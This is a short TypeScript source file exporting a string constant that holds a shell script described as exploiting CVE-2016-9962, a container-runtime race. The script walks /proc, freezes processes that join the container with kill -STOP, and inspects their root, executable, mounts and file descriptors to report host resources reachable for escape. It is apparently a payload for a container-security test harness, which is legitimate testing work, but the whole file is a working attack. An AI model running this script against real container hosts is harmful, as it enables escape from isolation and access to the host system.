/**
 * A shell script that looks into every process that joins its container (CVE-2016-9962). Most of the time it looks as often as it
 * can; now and then it stops all it sees, so that no moment is too short. It says `looking` once, `saw` a program of the host, and `escaped` with what can be got at through it.
 */
export const JOIN_ATTACK = `mine=$(cat /proc/self/mounts)
say() { [ "$(tr '\\0' ' ' <"$p/cmdline")" = "$words" ] && echo "escaped: $* of $words"; }
look() {
  words=$(tr '\\0' ' ' <"$p/cmdline")
  case "$words" in *--fork*) echo "saw $words" ;; esac
  if [ -e "$p/root/" ] && ! [ "$p/root/" -ef / ]; then say "root $(ls "$p/root/" | tr '\\n' ' ')"; fi
  exe=$(readlink "$p/exe")
  if [ -n "$exe" ] && [ -e "$p/exe" ] && ! [ "$p/exe" -ef "$exe" ]; then say "program $exe"; fi
  mounts=$(cat "$p/mounts")
  if [ -n "$mounts" ] && [ "$mounts" != "$mine" ]; then say "mounts $mounts"; fi
  for fd in "$p"/fd/[3-9] "$p"/fd/[1-9][0-9]; do
    if [ -d "$fd/" ] && ! [ "$fd/" -ef / ]; then say "directory $(readlink "$fd")"; fi
  done
}
echo looking
round=0
while :; do
  round=$(((round + 1) % 50))
  if [ "$round" = 0 ]; then kill -STOP -1; fi
  for p in /proc/[0-9]*; do
    pid=\${p#/proc/}
    if [ "$pid" = 1 ] || [ "$pid" = $$ ]; then continue; fi
    if [ "$round" = 0 ]; then
      look
    elif [ -e "$p/root/." ] && ! [ "$p/root/." -ef / ]; then
      kill -STOP "$pid"
      look
    fi
    kill -CONT "$pid"
  done
done 2>/dev/null
`;
